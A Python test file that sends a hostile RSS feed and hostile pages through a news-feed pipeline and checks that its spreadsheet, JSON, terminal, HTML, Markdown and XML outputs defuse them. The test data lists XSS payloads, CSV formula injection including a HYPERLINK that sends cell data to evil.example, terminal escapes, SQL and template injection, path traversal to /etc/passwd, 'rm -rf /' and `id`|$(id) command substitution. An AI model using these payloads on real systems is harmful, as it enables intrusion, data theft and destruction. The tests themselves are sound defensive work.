"""Strangers' words that mean harm, through the whole pipeline: every output is read by a parser of its medium."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from html import escape
from pathlib import Path

import pytest
from lxml import etree, html
from markdown_it import MarkdownIt

from flows import stages
from flows.cli import call
from flows.feed_list import ListedFeed, write_feed_list
from flows.project import Project
from flows.run import Run, running
from tests.flows.collecting import project_of, rows
from tests.flows.small_web import Web, response, small_web

NOW = datetime(2026, 3, 5, 12, tzinfo=UTC)
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\x08"
TURNED = "\u202egnp.exe\u2066\u200b\ufeff"
NASTY = [
    "<script>alert('run')</script> at the harbour",
    '"><img src=x onerror=alert(1)> & <svg/onload=alert(2)>',
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0 opens the day",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 behind a tab",
    "＝1+1 in full width",
    f"Colours {ESCAPES} of the terminal",
    f"Report {TURNED} turned round",
    "[click](javascript:alert(1)) ![pixel](http://evil.example/p.png)",
    "# Heading\n\n- list\n\n| a | b |\n|---|---|\n\n```sh\nrm -rf /\n```\n---",
    "'; drop table facts.articles; --",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} %s %(x)s {0.__class__} <%= 7 %>",
    "../../../../etc/passwd\x00.html",
    "first line\nINFO dateline: all is well\r\nsecond line\u2028third\u2029fourth\x85fifth",
    "\ud83d\ude00 \U0001f600 a\u0300\u0301\u0302\u0303 ﷽ " + "Z\u0334" * 30,
    "]]> <!-- --> <?php ?> &lt;b&gt; &amp;amp; &#x3c;",
    "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "x" * 3_000,
]
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u2028\u2029]")
LINKS = [
    "/{n}?a=%3Cscript%3E&b='\"><i>",
    "/{n}/../../etc/passwd",
    "/{n}#javascript:alert(1)",
    "/{n}/%0d%0aX: y",
    "/{n}/`id`|$(id)",
]
ADDRESS = "http://nasty.example"
PROSE = "The harbour board of Port Amber met on Tuesday and put off its vote. “We need more time,” said Ada Quill. "


def illegal_in_xml(text: str) -> str:
    """With references for what XML forbids: some parsers resolve them."""
    text = text.encode("utf-16", "surrogatepass").decode("utf-16")
    return re.sub("[\x00-\x1f\x7f-\x9f]", lambda found: f"&#{ord(found.group())};", escape(text))


def feed() -> bytes:
    items = "".join(
        f"<item><title>{illegal_in_xml(text)}</title><author>{illegal_in_xml(text)}</author>"
        f"<link>{escape(ADDRESS + LINKS[number % len(LINKS)].format(n=number))}</link>"
        f"<guid isPermaLink='false'>{illegal_in_xml(text)}</guid><category>{illegal_in_xml(text)}</category>"
        f"<description>{illegal_in_xml(escape(text))}</description>"
        "<pubDate>Wed, 04 Mar 2026 10:00:00 GMT</pubDate></item>"
        for number, text in enumerate(NASTY)
    )
    title = illegal_in_xml(NASTY[8])
    return f'<rss version="2.0"><channel><title>{title}</title>{items}</channel></rss>'.encode("utf-8", "replace")


def page(text: str) -> bytes:
    """An article in which every place says `text`."""
    shown = escape(text.encode("utf-16", "surrogatepass").decode("utf-16"))
    told = json.dumps({"@type": "NewsArticle", "headline": text, "author": {"name": text}}).replace("<", "\\u003c")
    body = "".join(f"<p>{PROSE * 4} {shown}</p>" for _ in range(5))
    return (
        f"<html><head><title>{shown}</title><meta name='author' content='{shown}'><link rel=canonical href='file:///x'>"
        f"<script type='application/ld+json'>{told}</script></head><body><article><h1>{shown}</h1>"
        f"{body}</article></body>"
    ).encode("utf-8", "replace")


def answer(web: Web) -> None:
    """Let the web say all of it."""
    for number, text in enumerate(NASTY):
        body = response(body=page(text), headers=("Content-Type: text/html; charset=utf-8",))
        for link in LINKS:
            web.answers(link.format(n=number).partition("#")[0], body)
    web.answers("/feed", response(body=feed(), headers=("Content-Type: application/rss+xml",)))
    web.answers("/rude", b"HTTP/1.1 503 \x9b31mBusy \xe2\x80\xaeysuB\r\nContent-Length: 0\r\n\r\n")
    web.answers("/away", response("302 Found", headers=("Location: javascript:\x9b31malert(1)//\xe2\x80\xae",)))


class _Everything(dict):  # type: ignore[type-arg]
    """Answers any path of a number with that number's page: addresses are normalised on their way."""

    def get(self, path: str, default: object = None) -> object:
        found = re.match(r"/(\d+)\b", path)
        return self.setdefault(path, dict.get(self, f"/{found[1]}/`id`|$(id)", default) if found else default)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    """A project after one run over a feed that means harm, its own list of feeds included."""
    folder = tmp_path_factory.mktemp("nasty") / "project"
    with small_web() as web:
        answer(web)
        web.respond = _Everything(web.respond)
        made = project_of(folder, workers=1)
        paths = {"/feed": 8, "/rude": 0, "/away": 12, "/lost": 9, "/also-lost": 15, "/more-lost": 2}
        listed = [
            ListedFeed(
                f"{ADDRESS}{path}", NASTY[title], "nasty.example", folder=NASTY[14], attributes=(("note", NASTY[3]),)
            )
            for path, title in paths.items()
        ]
        write_feed_list(made.feeds_file, listed)
        (folder / "dateline.toml").write_text('contact = "tests@dateline.example"\n')
        run = Run(made, now=lambda: NOW, connect_to={"nasty.example": web.address})
        with running(run, "run"):
            stages.whole_run(run, every_feed=True)
        yield made


@pytest.fixture
def said(project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Said:
    monkeypatch.setenv("DATELINE_HOME", str(project.folder))
    return Said(capsys)


class Said:
    """What a command prints."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys
        self.errors = ""

    def by(self, *words: str) -> str:
        call(list(words))
        printed = self._capsys.readouterr()
        self.errors = printed.err
        assert UNSAFE.search(printed.err.replace("\n", "")) is None, printed.err
        return printed.out


VIEWS = [
    "articles",
    "entries",
    "feeds",
    "revisions",
    "sentences",
    "mentions",
    "actors",
    "quotes",
    "polls",
    "fetches",
    "rejections",
    "digests",
]


def test_the_run_read_what_the_feed_named(project: Project) -> None:
    assert (
        rows(project, "select count(*) from entries")[0][0] == len(NASTY) - 3
    )  # four of its links go up to one address
    assert rows(project, "select count(*) from articles where body <> ''")[0][0] >= len(NASTY) // 2


@pytest.mark.parametrize("view", VIEWS)
def test_a_spreadsheet_finds_rows_and_no_formula(project: Project, said: Said, view: str) -> None:
    (count,) = rows(project, f"select count(*) from {view}")[0]
    found = list(csv.reader(io.StringIO(said.by("sql", f"from {view}", "--format", "csv"))))
    assert len(found) == count + 1
    assert {len(row) for row in found} == {len(found[0])}
    cells = [cell for row in found[1:] for cell in row]
    assert [
        cell for cell in cells if re.match(r"\s*[=+@＝＋－＠-]", cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ] == []
    assert [cell for cell in cells if UNSAFE.search(cell.replace("\n", "").replace("\t", ""))] == []


@pytest.mark.parametrize("view", VIEWS)
def test_a_program_reads_every_line_as_json(project: Project, said: Said, view: str) -> None:
    (count,) = rows(project, f"select count(*) from {view}")[0]
    lines = said.by("sql", f"from {view}", "--format", "json").splitlines()
    assert len([json.loads(line) for line in lines]) == count
    assert [line for line in lines if UNSAFE.search(line)] == []


@pytest.mark.parametrize(
    "words",
    [
        ["feeds", "list"],
        ["feeds", "list", "--json"],
        ["doctor"],
        ["doctor", "--json"],
        ["sql", "from entries"],
        ["sql", "from articles"],
    ],
)
def test_a_terminal_gets_no_command(said: Said, words: list[str]) -> None:
    printed = said.by(*words)
    assert printed
    assert UNSAFE.search(printed.replace("\n", "")) is None


def test_each_feed_is_one_line(project: Project, said: Said) -> None:
    lines = [line for line in said.by("feeds", "list").splitlines() if ADDRESS in line]
    assert len(lines) == 6


def test_an_error_is_one_line(said: Said) -> None:
    said.by("sql", f"select '{ESCAPES}\nx' from nothing_{TURNED}")
    assert said.errors.startswith("dateline: ")
    assert said.errors.count("\n") == 1


def test_exported_feeds_are_xml_and_come_back_as_they_were(project: Project, said: Said, tmp_path: Path) -> None:
    file = tmp_path / "feeds.opml"
    said.by("feeds", "export", str(file))
    outlines = [one for one in etree.parse(file).iter("outline") if one.get("xmlUrl")]
    assert {one.get("xmlUrl") for one in outlines} == {
        f"{ADDRESS}/{path}" for path in ("feed", "rude", "away", "lost", "also-lost", "more-lost")
    }


@pytest.mark.slow
def test_a_page_that_is_shown_commands_no_terminal(said: Said, tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    for text in NASTY:
        file.write_bytes(page(text))
        assert UNSAFE.search(said.by("read", str(file)).replace("\n", "")) is None
        assert json.loads(said.by("read", str(file), "--json"))


def test_the_digest_and_the_pages_beside_it_have_no_script_and_no_foreign_links(project: Project) -> None:
    files = list(project.digests.rglob("*.html"))
    assert len(files) > 1
    for file in files:
        text = file.read_text(encoding="utf-8")
        assert UNSAFE.search(text.replace("\n", "")) is None, file
        for element in html.fromstring(text).iter(etree.Element):
            assert element.tag not in ("script", "iframe", "object", "embed", "form", "base")
            assert not [name for name in element.attrib if name.startswith("on")]
            assert all(is_harmless(value, file) for name in ("href", "src") if (value := element.get(name)) is not None)


def is_harmless(address: str, file: Path) -> bool:
    """Whether an address leads to the web, within the page, or to a page of the project's own."""
    if re.match(r"https?://|#|data:image/", address):
        return True
    return (
        re.fullmatch(r"[\w./-]+(#[\w-]+)?", address) is not None and (file.parent / address.partition("#")[0]).is_file()
    )


def test_the_digest_is_markdown_without_markup_of_strangers(project: Project) -> None:
    (file,) = project.digests.rglob("*.md")
    tokens = MarkdownIt("commonmark").enable("table").parse(file.read_text(encoding="utf-8"))
    inner = [child for token in tokens for child in (token, *(token.children or ()))]
    assert not [token for token in inner if token.type in ("html_block", "html_inline", "image")]
    links = [token.attrs["href"] for token in inner if token.type == "link_open"]
    assert [link for link in links if not str(link).startswith(("http://", "https://"))] == []


@pytest.mark.parametrize("name", ["feed.xml", "rss.xml"])
def test_the_feeds_of_digests_hold_no_markup_of_strangers(project: Project, name: str) -> None:
    feed = etree.fromstring((project.digests / name).read_bytes())
    shown = [element for element in feed.iter("{*}content", "{*}description") if element.text and "<" in element.text]
    assert shown
    for text in feed.itertext():
        assert UNSAFE.search(text.replace("\n", "")) is None
    for element in shown:
        for tag in html.fragments_fromstring(element.text):
            assert {one.tag for one in tag.iter(etree.Element)} <= {"p", "em", "ul", "ol", "li"}


def test_no_word_of_a_stranger_names_a_file(project: Project) -> None:
    names = [path.name for path in project.folder.rglob("*")]
    assert [name for name in names if not re.fullmatch(r"[\w.-]+", name) or "passwd" in name] == []
